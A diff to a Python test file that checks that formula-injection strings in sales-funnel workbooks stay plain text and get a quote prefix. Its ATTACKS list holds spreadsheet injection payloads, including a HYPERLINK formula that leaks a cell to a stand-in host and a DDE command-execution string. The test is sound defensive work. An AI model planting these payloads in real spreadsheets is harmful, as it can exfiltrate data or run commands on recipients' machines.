@@ -15,25 +15,33 @@ from python_calamine import CalamineWorkbook
 
 from tests.sharing_cases import deal, funnel_bytes, roll
 from xlsales import cli
+from xlsales.funnel import layout as FL
+from xlsales.problems import column_letter
 from xlsales.sharing.safety import is_formula_like, ooxml_text, typed_as_text
 from xlsales.sharing.teambook import put, team_workbook
 from xlsales.sharing.xlsxrows import Package, fill_table
 
 ATTACKS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=2+2", "=cmd|' /C calc'!A0", "=1/0"]
-TEXT_COLUMNS = {"A": "id", "B": "customer", "D": "owner", "E": "product_line", "N": "next_step",
-                "P": "q_step_done", "Q": "q_evidence", "R": "q_doing_now", "S": "q_next_prep"}  # O: C/F/W letters only
+TEXT_COLUMNS = ("id", "customer", "owner", "product_line", "next_step", "q_step_done", "q_evidence", "q_doing_now",
+                "q_next_prep")  # not clarity: C/F/W letters only
+
+
+def _at(key: str, row: int) -> str:
+    return f"{FL.DEALS.letter(key)}{row}"
 
 
 def _files():
     """Rep files with an attack in every text column, in conflicting versions, and one as a bad amount."""
     typed = {}
-    for row, attack in enumerate(ATTACKS, start=2):
-        for col in TEXT_COLUMNS:
-            typed[f"{col}{row}"] = f"{attack}" if col != "A" else f"{attack}#{row}"
-    typed["F9"] = "=1/0"  # an amount that is text: reported as a problem, its text shown as found
+    for row, attack in enumerate(ATTACKS, start=FL.DEALS.first_row):
+        for key in TEXT_COLUMNS:
+            typed[_at(key, row)] = attack if key != "id" else f"{attack}#{row}"
+    typed[_at("amount", 9)] = "=1/0"  # an amount that is text: reported as a problem, its text shown as found
     first = funnel_bytes([deal(n) for n in range(1, len(ATTACKS) + 1)], typed=typed)
-    typed_b = {k: (v + " v2" if k.startswith("N") else v) for k, v in typed.items() if k[1:] == "2"}
+    # the first deal again, its next step changed: a conflict
+    typed_b = {_at(key, FL.DEALS.first_row): typed[_at(key, FL.DEALS.first_row)] + (" v2" if key == "next_step" else "")
+               for key in TEXT_COLUMNS}
     second = funnel_bytes([deal(1)], typed=typed_b)
     return {"=evil.xlsx": first, "+other.xlsx": second}
 
@@ -65,7 +73,7 @@ def test_attacks_stay_text_in_every_sheet_and_get_a_quote_prefix():
             for c, value in enumerate(row):
                 if isinstance(value, str) and is_formula_like(value):
                     seen[name] = seen.get(name, 0) + 1
-                    ref = f"{_letter(c)}{r}"
+                    ref = f"{column_letter(c)}{r}"
                     cell = re.search(rf'<c r="{ref}"([^>]*)>(.*?)</c>', sheet_xml, re.DOTALL)
                     assert "<f>" not in cell.group(2) and "inlineStr" in cell.group(1)
                     style = int(re.search(r'\bs="(\d+)"', cell.group(1)).group(1))
@@ -139,12 +147,3 @@ def test_any_text_written_with_openpyxl_comes_back_exactly(text):
 def test_typed_as_text_and_ooxml_text():
     assert typed_as_text("=1+1") == "'=1+1" and typed_as_text("1+1") == "1+1" and typed_as_text(5) == 5
     assert ooxml_text("a\x01b_x0041_c") == "a_x0001_b_x005F_x0041_c"
-
-
-def _letter(index: int) -> str:
-    letters = ""
-    index += 1
-    while index:
-        index, rem = divmod(index - 1, 26)
-        letters = chr(65 + rem) + letters
-    return letters
